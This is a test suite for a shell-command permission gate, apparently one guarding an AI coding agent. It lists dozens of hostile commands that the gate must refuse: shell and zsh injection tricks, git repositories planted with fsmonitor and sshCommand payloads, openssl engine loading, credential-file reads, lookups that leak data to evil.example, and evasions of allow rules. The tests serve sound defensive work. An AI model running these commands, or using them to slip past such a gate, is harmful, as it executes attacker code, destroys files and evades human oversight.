/** How we would get a bad command past the reader and the proofs, kept as rows. A row passes when the gate does not allow. */
import { execFileSync } from "node:child_process";
import { mkdirSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { diskWorld } from "../../machine/index.ts";
import { bash, type Project, project } from "../../testing/index.ts";
import { readShell } from "./index.ts";

let here: Project;
beforeAll(() => {
  here = project();
  here.write("src/a.ts", "a\n");
  here.write("src/b.ts", "b\n");
  here.write("package.json", "{}\n");
  execFileSync("git", ["init", "-q", "-b", "main"], { cwd: here.root });
  execFileSync("git", ["add", "."], { cwd: here.root });
  const author = ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"];
  execFileSync("git", [...author, "commit", "-qm", "first"], { cwd: here.root });
  here.write("notes.txt", "the only copy\n");
  here.write("work/plan.md", "the only copy\n");
  here.write("script.sh", "echo\n");
  mkdirSync(join(here.home, ".ssh"));
  writeFileSync(join(here.home, ".ssh/id_rsa"), "key\n");
  symlinkSync(here.home, here.at("up"));
  // A repository inside the project that is no `.git`: anyone can put one there.
  for (const dir of ["evil/objects", "evil/refs/heads", "half/refs"]) mkdirSync(here.at(dir), { recursive: true });
  here.write("evil/HEAD", "ref: refs/heads/main\n");
  here.write("evil/refs/heads/main", `${"1".repeat(40)}\n`);
  here.write(
    "evil/config",
    "[core]\n\trepositoryformatversion = 1\n\tbare = false\n\tworktree = .\n\tsshCommand = touch pwn\n[extensions]\n\tpartialClone = origin\n" +
      '[remote "origin"]\n\turl = ssh://x/y\n\tpromisor = true\n',
  );
  here.write("half/HEAD", "ref: refs/heads/main\n");
  here.write("half/config", "[core]\n\tfsmonitor = touch pwn\n\trepositoryformatversion = 0\n\tworktree = .\n");
  // Names that are options where a pattern puts them.
  here.write("names/*", "");
  here.write("names/-delete", "");
  here.write("lists/@more", "--plugin ./evil.so\n");
  here.write("lists/a.o", "");
  here.write("pages/+!touch pwn", "");
  here.write("archives/a.tar", "");
  here.write("archives/--checkpoint-action=exec=sh x.tar", "");
  here.write("registry/.npmrc", "registry=https://registry.example/\n");
});
afterAll(() => here.remove());

const AS_BASH_READS_IT: readonly string[] = [
  // What is assigned to an integer of the shell is evaluated, subscripts and all.
  "RANDOM='a[$(touch pwn)]'",
  "SRANDOM='a[$(touch pwn)]'",
  "OPTIND='a[$(touch pwn)]'",
  "HISTCMD='a[$(touch pwn)]'",
  "SECONDS='PATH[$(touch pwn)]'",
  "for RANDOM in 'a[$(touch pwn)]'; do :; done",
  "read RANDOM <<< 'a[$(touch pwn)]'",
  "x='a[$(touch pwn)]'; a=([x]=1)",
  // The name runs another file.
  "hash -p evil ls; ls",
  // GNU's long option takes no further word.
  "find src -name '*.ts' | xargs --max-lines rm cat",
  // An option that is not there everywhere: the directory stays as it is.
  "cd work; cd -@ ../src; rm plan.md",
  // Outside a function `local` sets nothing: the path is /etc/x.
  "local d=zzz; rm $d/etc/x",
  // What cannot be had back is moved first, and then deleted.
  "mv notes.txt z && rm z",
  "mv work z && rm -rf z",
  "mkdir z; mv work z/; rm -rf z",
  "mkdir z; mv work z/; rm -rf z/work",
  "mv notes.txt z; mv z y; rm y",
];

/** A repository made, or half made, by the same command. */
const NEW_REPOSITORY =
  "mkdir -p s/objects s/refs; echo 'ref: refs/heads/main' > s/HEAD; printf '[core]\\n\\tfsmonitor=\"touch pwn\"\\n' > s/config; ";

const BY_FILES_OF_THE_PROJECT: readonly string[] = [
  "git -C evil rev-parse HEAD~1",
  "cd evil && git merge-base HEAD main",
  "git -C evil cherry main",
  "git -C evil fsck",
  "git -C evil name-rev HEAD",
  "git -C evil for-each-ref --format='%(contents)'",
  "git -C evil show-branch",
  "cd evil && git check-ignore x",
  "git -C evil config -l",
  `${NEW_REPOSITORY}cd s && git status`,
  `${NEW_REPOSITORY}git -C s status`,
  `${NEW_REPOSITORY}git -C s log`,
  "mkdir half/objects && git -C half status",
  "cp -r evil/objects half && git -C half status",
  "touch evil/hooks; git -C evil add .",
  "git checkout -b t origin/other && git -C brought status",
  "git checkout -b t origin/other && git commit --allow-empty -m x",
  "echo '[toolchain]' > rust-toolchain.toml && cargo --version",
  "echo 'toolchain go1.99.0' > go.mod; go version",
  "cd names && find .. -path *",
  "cd src && touch -- -delete && find *",
  "cd src && touch -- -delete && ls -d * && find .. -path *",
  "cd lists && nm *",
  "cd lists && ar t *",
  "cd pages && less *",
  "cd archives && tar tf *",
  "cd archives && tar tf *.tar",
  "cd registry && npm ls",
  "npm --prefix registry --version",
  "git reflog drop --all",
  "rgrep KEY ~",
  "xmllint --c14n a.xml",
  "identify a.png",
  "ffprobe a.mp4",
  "man ./page.1",
  "ts-node -vv",
  "docker --config ./evil --help",
  "openssl x509 -in org.openssl.engine:./evil.so:x -noout",
  "openssl pkey -in org.openssl.engine:/tmp/evil.so:x -noout",
  "openssl dgst -verify org.openssl.engine:./evil.so:x -signature s f",
  "openssl rsa -in file:/root/.ssh/id_rsa -noout -text",
  "systemctl status -H user@evil.example",
  "lsof -i @notes.evil.example:80",
  "lsof -i@notes.evil.example",
  "sqlite3 x.db \"select data from fsdir where path='/etc/passwd'\"",
  "tar -tW use-compress-program=./evil -f a.tar",
  "dscl evil.example list /Users",
  "zpool status -c ./evil",
  "PYENV_ROOT=./evil; python3 --version",
  "DEVELOPER_DIR=./evil; git status",
  "LANGUAGE=../../x ls",
  "curl -K options --version",
  "pixi list",
  "plutil -p a.plist -o b",
  "bash -kc 'ls LD_PRELOAD=./x.so'",
  "bash -o keyword -c 'ls LD_PRELOAD=./x.so'",
  "zsh -o extendedglob -c 'rm ^src'",
  // What is asked for in a name's place leaves the machine.
  "ss dst notes.evil.example",
  "route get notes.evil.example",
  "dscacheutil -q host -a name notes.evil.example",
];

const AS_ZSH_READS_IT: readonly string[] = [
  "printf %d 'PATH[$(touch pwn)]'",
  "printf '%s %5d\\n' x 'PATH[$(touch pwn)]'",
  "printf '%*s' 'PATH[$(touch pwn)]' x",
  "x='PATH[$(touch pwn)]'; printf %d x",
  'x=$(cat notes.txt); printf %d "$x"',
  "exit 'PATH[$(touch pwn)]'",
  "shift 'PATH[$(touch pwn)]'",
  "f() { return 'PATH[$(touch pwn)]'; }; f",
  "while true; do break 'PATH[$(touch pwn)]'; done",
  "[ -t 'PATH[$(touch pwn)]' ]",
  "test -t 'PATH[$(touch pwn)]'",
  "[[ -t 'PATH[$(touch pwn)]' ]]",
  "read -t 'PATH[$(touch pwn)]' x",
  "read -n 'PATH[$(touch pwn)]' x",
  "SECONDS='PATH[$(touch pwn)]' true",
  "COLUMNS='PATH[$(touch pwn)]'",
  "typeset -F x='PATH[$(touch pwn)]'",
  "declare -F x='PATH[$(touch pwn)]'",
  "b='PATH[$(touch pwn)]'; echo $PATH[b]",
  "b='PATH[$(touch pwn)]'; echo \"$PATH[b]\"",
  'x=notes.txtZZZ; rm "$x[1,9]"',
  "x='*(e:pwn:)'; ls \"./\"$~x",
  "x='-rf work'; rm $=x",
  "path=(./evil $path); ls",
  "path=./evil; ls",
  "for path in ./evil; do ls; done",
  "read path <<< ./evil; ls",
  "argv=(rm notes.txt); $1 $2",
  "READNULLCMD=sh; < script.sh",
  "NULLCMD=sh < script.sh",
  "functions[ls]='rm notes.txt'; ls",
  "functions=(ls 'rm notes.txt'); ls",
  "aliases[ls]='rm notes.txt'; ls",
  "commands[ls]=./evil; ls",
  "fpath=(./evil); ls",
  "chpwd_functions=(f); cd src",
  "cdpath=(/etc); cd foo && rm bar",
  "echo pwn >! notes.txt",
  "echo pwn >! ~/.bashrc",
  "echo pwn >>!~/.bashrc",
  "rm =ls",
  "cp src/a.ts =git",
  "echo x > =git",
  "x==git; rm $x",
  "x=notes.txt.bak; rm $x:r",
  'x=~/.ssh/id_rsa/y; cat "$x:h"',
  "[[ -n *(#qe:'touch pwn':) ]]",
  "ls *(e:'touch pwn':)",
  "cat < *(e:'touch pwn':)",
  "case x in *(e:'touch pwn':)) ;; esac",
  "set -T; x=/etc; cd x && rm foo",
  "x=/etc; cd x && rm foo",
  "pushd /etc; pushd -; cd +1 && rm foo",
  "rm ^src",
  "rm work/plan~src",
  "rm notes.txt#",
  "{cat,/evil}",
  "rm -rf $'\\work'",
  "rm notes.txt\\",
  "eval 'rm notes.txt\\'",
  // What a variable holds stays one word.
  "X='p\nw pwn'; sed -n $X src/a.ts",
  "X='p\ne touch pwn'; sed -n $X src/a.ts",
  "X='1\nBEGIN{system(\"id\")}'; awk $X src/a.ts",
  "X='my notes.txt'; rm $X",
];

const AS_A_PLAIN_SH_READS_IT: readonly string[] = [
  "echo $'\\'\ntouch pwn\n#\\''",
  "[[ a > notes.txt ]]",
  "[[ x || ./evil ]]",
  "[[ x && ( './evil' == y ) ]]",
  "[[ x || ! reboot ]]",
  "B=./evil; [[ x || $B == 1 ]]",
  "B=$(cat notes.txt); [[ x || $B ]]",
  "[[ x || $SHELL ]]",
  "evil=1; ((./evil))",
  "n=1 notes=1; ((n > notes))",
  "pushd src; rm plan.md ../work/plan.md; rm -rf plan.md",
  "cd work; pushd src; rm plan.md",
  "cd work; builtin cd src; rm plan.md",
  "cd work; time cd src; rm plan.md",
  "touch=1 pwn=1; ((touch pwn))",
  "rm=1 f=1 src=1; ((rm -f *src))",
  "reboot=1; ((reboot))",
  "function f {\nrm notes.txt\n}",
  "a=work; a+=/zzz; rm -rf $a",
  "declare d=zzz; rm $d/etc/x",
];

const SETTINGS = [{ mode: "auto" }, { mode: "acceptEdits" }] as const;

describe.each(SETTINGS)("$mode", (settings) => {
  test.each([...AS_BASH_READS_IT, ...BY_FILES_OF_THE_PROJECT, ...AS_ZSH_READS_IT, ...AS_A_PLAIN_SH_READS_IT])(
    "%s",
    async (command) => {
      const decision = await here.gate({ classifier: null, settings }).check(bash(command));
      expect(decision.behavior).not.toBe("allow");
    },
  );
});

/** Rules a person may well have, and commands that must not slip in under them. */
const RULES = [
  "Bash(npm test:*)",
  "Bash(npm run test:*)",
  "Bash(git log:*)",
  "Bash(git * main)",
  "Bash(ls:*)",
  "Bash(echo:*)",
  "Bash(find:*)",
  "Bash(sort:*)",
  "Bash(./scripts/build.sh:*)",
  "Bash(make test)",
  "Bash(docker compose up:*)",
];

test.each([
  "'npm test' x",
  "npm run 'test x'",
  "npm run {test$(tail -1 notes.txt),x}",
  "npm test --script-shell=./evil",
  "npm test --node-options=--require=./evil.js",
  "npm test --prefix /tmp/evil",
  "npm --prefix /tmp/evil test",
  "cd /tmp/evil && npm test",
  "NODE_OPTIONS=--require=./evil npm test",
  "npm test $(rm notes.txt)",
  "npm test > ~/elsewhere",
  "npm test | sh",
  "npm() { rm notes.txt; }; npm test",
  "hash -p evil npm; npm test",
  "git log --output=/etc/x",
  "git -c core.pager=./evil log",
  "git -c alias.x='!rm' x main",
  "git push --receive-pack=./evil origin main",
  "git fetch ext::sh main",
  "find work -delete",
  "find . -name plan.md -exec rm {} +",
  "find src -fprint /etc/x",
  "sort -o /etc/x src/a.ts",
  "ls > /etc/x",
  "ls; rm -rf work",
  "echo x | sh",
  "cd src; ./scripts/build.sh",
  "./scripts/../evil",
  "make -f evil.mk test",
  "make test SHELL=./evil",
  "SHELL=./evil make test",
  "docker compose -f evil.yml up",
])("under rules for other things: %s", async (command) => {
  for (const mode of ["default", "auto"] as const) {
    const gate = here.gate({ classifier: null, restore: null, settings: { mode, permissions: { allow: RULES } } });
    expect((await gate.check(bash(command))).behavior).not.toBe("allow");
  }
});

test("version control outside the project is no edit of it", async () => {
  const gate = here.gate({ classifier: null });
  for (const command of ["git -C .. add -A", "git -C /tmp commit -m x", "git -C ../.. branch x"])
    expect((await gate.check(bash(command))).behavior).not.toBe("allow");
  expect((await gate.check(bash("git -C src add ."))).behavior).toBe("allow");
});

test("what was moved into a directory of this session is not deleted with it", async () => {
  const gate = here.gate({ classifier: null, restore: null });
  expect((await gate.check(bash("mkdir build"))).behavior).toBe("allow");
  mkdirSync(here.at("build"));
  await gate.check(bash("mv notes.txt build/"));
  renameSync(here.at("notes.txt"), here.at("build/notes.txt"));
  expect((await gate.check(bash("rm -r build"))).behavior).not.toBe("allow");
  expect((await gate.check(bash("rm build/notes.txt"))).behavior).not.toBe("allow");
  renameSync(here.at("build/notes.txt"), here.at("notes.txt"));
  expect((await gate.check(bash("mv notes.txt other.txt"))).behavior).toBe("allow");
  writeFileSync(here.at("other.txt"), "moved\n");
  expect((await gate.check(bash("rm other.txt"))).behavior).not.toBe("allow");
});

test("a rule for git's exact words does not follow it into another repository", async () => {
  const gate = here.gate({ classifier: null, settings: { permissions: { allow: ["Bash(git rev-parse HEAD~1)"] } } });
  expect((await gate.check(bash("git rev-parse HEAD~1"))).behavior).toBe("allow");
  expect((await gate.check(bash("cd evil && git rev-parse HEAD~1"))).behavior).not.toBe("allow");
});

/** Pieces that open, close or change something, and a few plain words. */
const PIECES =
  "a|ls|rm|-f|$|(|)|{|}|[|]|[[|]]|((|))|`|'|\"|\\|;|&|&&|||||<|>|<<|<<<|>&|<(|#|!|~|*|?|=|+=|,|..|$(|${|$((|$'|x=|a[|for x in|do|done|if|then|fi|case|esac|in|;;|f()|function|eval|trap|exec|env|xargs|bash -c|\n| |\t|é|\u00a0|\u202e|@|%|^|:|0|:-|2>&1|/dev/null".split(
    "|",
  );

test("whatever the text, the reader answers and never breaks", () => {
  const world = diskWorld({ home: here.home, path: "/usr/bin:/bin" });
  const text = fc.oneof(
    fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((pieces) => pieces.join("")),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((pieces) => pieces.join(" ")),
    fc
      .tuple(fc.constantFrom(...PIECES), fc.constantFrom(...PIECES), fc.nat(3_000))
      .map(([a, b, n]) => (a + b).repeat(n)),
    fc.string({ unit: "binary", maxLength: 200 }),
  );
  fc.assert(
    fc.property(text, (command) => {
      const reading = readShell(command, { cwd: here.root, projectRoot: here.root, world, written: new Set() });
      expect(reading.opaque.filter(({ why }) => why.includes("failed"))).toEqual([]);
    }),
    { numRuns: 1_500, seed: 5 },
  );
});

test("a version manager's shim is no program of its own, whatever the project's files make of it", async () => {
  const shims = join(here.home, ".asdf/shims");
  mkdirSync(shims, { recursive: true });
  writeFileSync(join(shims, "node"), "", { mode: 0o755 });
  here.write("pinned/.tool-versions", "nodejs 20.1.0\n");
  here.write("led/.tool-versions", "nodejs path:/tmp/evil\n");
  const world = diskWorld({ home: here.home, path: `${shims}:/usr/bin:/bin` });
  const check = async (command: string) => (await here.gate({ classifier: null, world }).check(bash(command))).behavior;
  expect(await check("cd pinned && node --version")).not.toBe("allow");
  expect(await check("cd led && node --version")).not.toBe("allow");
  expect(await check("echo ../../../evil > .node-version && node --version")).not.toBe("allow");
});
